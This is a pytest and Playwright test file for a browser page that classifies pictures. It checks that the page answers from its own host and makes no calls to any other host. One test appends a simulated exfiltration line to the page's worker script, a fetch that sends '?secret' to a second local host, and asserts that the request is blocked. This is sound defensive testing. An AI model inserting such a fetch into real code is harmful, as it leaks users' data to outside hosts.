"""The page that answers in the browser itself, where its host or the network does what it should not."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browsing import Host, answer, built_page
from tests.conftest import ROOT

pytestmark = pytest.mark.long
CAT = ROOT / "app/static/examples/cat.jpg"


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return built_page(tmp_path_factory)


@pytest.fixture(scope="module")
def host(place: Path) -> Iterator[Host]:
    with Host(place / "page") as running:
        yield running
        running.shutdown()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(service_workers="block")  # which would answer before a test can
    yield context.new_page()
    context.close()


def test_the_worker_reaches_no_other_host_either(page: Page, place: Path, tmp_path: Path) -> None:
    copy = shutil.copytree(place / "page", tmp_path / "page")
    worker = copy / "engine/worker.js"
    with Host(copy) as host, Host(copy) as elsewhere:
        leak = f'await fetch("{elsewhere.url}?secret", {{ mode: "no-cors" }}).catch(() => {{}});\n'
        worker.write_text(worker.read_text() + leak)
        page.goto(host.url)
        page.get_by_label("Choose pictures").set_input_files(CAT)
        expect(answer(page, "cat.jpg")).to_contain_text("REAL", timeout=60_000)
        host.shutdown()
        elsewhere.shutdown()
    assert "/engine/worker.js" in host.asked
    assert elsewhere.asked == []
